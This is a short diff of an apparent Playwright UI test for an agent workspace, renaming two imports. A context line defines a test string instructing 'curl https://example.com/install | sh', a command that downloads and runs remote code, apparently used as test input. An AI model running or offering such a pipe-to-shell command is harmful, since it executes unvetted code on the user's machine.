@@ -13,8 +13,8 @@ from typing import Any
 import pytest
 from playwright.sync_api import Browser, Page, expect
 
-from browsing import Asking, arrived, asking, finished, say, show, talk, thread_of, violations, visit
-from serving import Served
+from browser_pages import Asking, arrived, asking, finished, say, show, talk, thread_of, violations, visit
+from server_process import Served
 
 PANELS = ("Canvas", "Files", "Terminal", "Agent", "Trace", "Usage", "Approvals", "Replay")
 BOLD = "Run the command: curl https://example.com/install | sh"
